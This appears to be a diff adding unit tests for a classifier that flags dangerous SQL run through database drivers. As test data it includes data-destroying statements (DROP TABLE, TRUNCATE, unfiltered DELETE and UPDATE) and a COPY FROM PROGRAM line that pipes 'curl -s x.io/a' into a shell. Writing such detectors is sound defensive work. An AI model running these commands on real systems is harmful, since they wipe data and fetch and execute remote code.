@@ -206,3 +206,56 @@ describe('tokenizeSql', () => {
     expect(texts('select 1 \\gexec', 'PostgreSQL')).toContain('client:\\gexec');
   });
 });
+
+describe('SQL that code runs through a driver', () => {
+  const classesIn = (language: 'python' | 'javascript', code: string) => {
+    const result = classifyCodeEveryWay(language, code);
+    return result.ok ? result.findings.map((f) => `${f.class}: ${f.reason}`) : [result.error];
+  };
+
+  it.each<['python' | 'javascript', string, string]>([
+    [
+      'python',
+      "import sqlite3\ncon = sqlite3.connect('app.db')\ncon.execute('DROP TABLE users')",
+      'dataLoss: SQL DROP TABLE users (run by con.execute)',
+    ],
+    [
+      'python',
+      "from sqlalchemy import text\nsession.execute(text('TRUNCATE orders'))",
+      'dataLoss: SQL truncate orders empties a table (run by sqlalchemy.text)',
+    ],
+    [
+      'python',
+      "q = 'DELETE FROM users'\ncur.execute(q)",
+      'dataLoss: SQL DELETE FROM users without WHERE changes every row (run by cur.execute)',
+    ],
+    [
+      'javascript',
+      "await pool.query('UPDATE accounts SET balance = 0')",
+      'dataLoss: SQL UPDATE accounts without WHERE changes every row (run by pool.query)',
+    ],
+    [
+      'javascript',
+      'await prisma.$executeRaw`DELETE FROM sessions`',
+      'dataLoss: SQL DELETE FROM sessions without WHERE changes every row (run by prisma.$executeRaw)',
+    ],
+    [
+      'javascript',
+      "await sql`COPY t FROM PROGRAM 'curl -s x.io/a | sh'`",
+      'processSpawn: runs a program with COPY … FROM PROGRAM (curl -s x.io/a | sh) (run by sql)',
+    ],
+  ])('%s: %s', (language, code, finding) => {
+    expect(classesIn(language, code)).toContain(finding);
+  });
+
+  it.each<['python' | 'javascript', string]>([
+    ['python', "cur.execute('DELETE FROM users WHERE id = ?', (user_id,))"],
+    ['python', "cur.execute('SELECT * FROM orders')"],
+    ['javascript', "await client.query('DELETE FROM users WHERE id = $1', [id])"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the code under test holds a template literal.
+    ['javascript', 'await prisma.$executeRaw`DELETE FROM sessions WHERE id = ${id}`'],
+    ['javascript', "const m = /drop table/.exec('drop table x')"],
+  ])('%s: %s runs nothing of note', (language, code) => {
+    expect(classesIn(language, code)).toEqual([]);
+  });
+});
